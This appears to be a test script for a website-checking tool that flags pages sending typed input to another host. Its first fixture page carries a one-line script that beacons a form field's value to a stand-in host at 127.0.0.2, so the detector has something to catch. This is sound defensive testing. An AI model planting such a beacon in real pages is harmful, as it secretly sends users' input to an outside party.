#!/usr/bin/python3
"""site_live.py TIPSTAFF: ‘site check URL’ against a page on loopback that tells another host what is typed, and one that tells nobody.

The server's log is the ground truth: nothing that was typed may have left.
"""
from live_site import Site, expect, finish

site = Site({
    "/": b"<title>Report</title><input id=offence><script>offence.onchange=()=>navigator.sendBeacon('http://127.0.0.2:PORT/t',offence.value)</script>",
    "/sitemap.xml": b"<?xml version='1.0'?><urlset>" + b"".join(b"<url><loc>http://127.0.0.1:PORT/%s</loc></url>" % each for each in (b"clean", b"", b"clean?again")) + b"</urlset>",
    "/clean": b"<title>Clean</title><h1>Opening hours</h1>",
})
expect(1, "what was typed (#offence) went to 127.0.0.2", site.address + "/")
site.only_its_own_pages()
expect(0, "PASS", site.address + "/", "--leave-fields")
expect(0, "PASS", site.address + "/clean")
expect(3, "could not be loaded", "http://127.0.0.1:1/")
with open("map.txt", "w") as file:
    file.write(f"{site.address}/clean\n{site.address}/\n")
expect(1, ["By page, the worst first:\n  hold     127.0.0.1/: 1 held, 0 unknown\n  pass     /clean", "what was typed (#offence) went to 127.0.0.2"], "--sitemap", "map.txt")
expect(3, ["2 of the sitemap's 3 pages were not looked at (--pages 1)"], "--sitemap", site.address + "/sitemap.xml", "--pages", "1")
expect(10, "names no page", "--sitemap", site.address + "/clean")
expect(5, "nowhere.xml", "--sitemap", "nowhere.xml")
site.only_its_own_pages()
finish()
